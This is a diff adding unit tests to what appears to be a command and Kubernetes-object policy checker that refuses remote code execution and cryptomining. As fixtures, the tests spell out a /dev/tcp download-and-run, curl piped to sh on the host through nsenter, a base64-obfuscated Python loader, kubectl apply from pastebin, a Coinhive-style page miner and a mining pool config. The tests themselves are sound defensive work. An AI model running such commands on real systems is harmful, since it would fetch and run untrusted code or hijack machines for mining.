@@ -242,3 +242,46 @@ test('options that wrappers of miners have are read, and those of a pool of conn
   expect(told('stratum.example:3333', '--pool-user', 'w', '--pool-pass', 'x')).toBe('deny');
   expect(told('pgbouncer:6432', '--pool-user', 'app', '--pool-size', '10', '--threads', '8')).toBe('allow');
 });
+
+test('what comes over a bare connection and is run has no author', () => {
+  const fetch = 'exec 3<>/dev/tcp/$H/80; echo GET >&3; cat <&3 > /tmp/k';
+  expect(judgeScript(`${fetch}; bash /tmp/k`).verdict).toBe('deny');
+  expect(judgeScript(`${fetch}; wc -l /tmp/k`).verdict).toBe('allow');
+});
+
+test('a script over plain HTTP that runs on the node is refused, that of a mirror of the house is not', () => {
+  const onNode = (url: string) =>
+    judge('nsenter', '-t', '1', '-m', '--', 'sh', '-c', `curl ${url} | sh`).verdict;
+  expect(onNode('http://tools.example.org/k.sh')).toBe('deny');
+  expect(onNode('https://tools.example.org/k.sh')).toBe('warn');
+  expect(onNode('http://mirror.corp/k.sh')).toBe('warn');
+});
+
+test('an address that a program decodes is one that it asks', () => {
+  const url = Buffer.from('http://203.0.113.2/ldr.py').toString('base64');
+  const code = `import base64,urllib.request as u;exec(u.urlopen(base64.b64decode('${url}').decode()).read())`;
+  expect(judge('python', '-c', code).verdict).toBe('deny');
+});
+
+test('a manifest that anybody may have put there is refused, that of a vendor is not', () => {
+  expect(judgeScript('kubectl apply -f https://pastebin.com/raw/X7yTq1sE').verdict).toBe('deny');
+  expect(judgeScript('kubectl apply -f https://projectcontour.io/quickstart.yaml').verdict).toBe('allow');
+});
+
+test('a page starts a miner as Coinhive was started, whoever serves the script', () => {
+  const page = (script: string) =>
+    judgeObject({ kind: 'ConfigMap', data: { 'index.html': `<script>${script}</script>` } }, { indicators })
+      .verdict;
+  expect(page(`var c = new Client.Anonymous('a1b2c3', {throttle: 0.3}); c.start();`)).toBe('deny');
+  expect(page(`const u = new Realm.User('anon-visitor'); u.start();`)).toBe('allow');
+});
+
+test('pools among the values of a custom object are those of a miner', () => {
+  const release = (user: string, url: string) =>
+    judgeObject(
+      { kind: 'Release', spec: { forProvider: { values: { config: { pools: [{ url, user }] } } } } },
+      { indicators },
+    ).verdict;
+  expect(release(XMR, 'pool.example:5555')).toBe('deny');
+  expect(release('app', 'db.example:5432')).toBe('allow');
+});
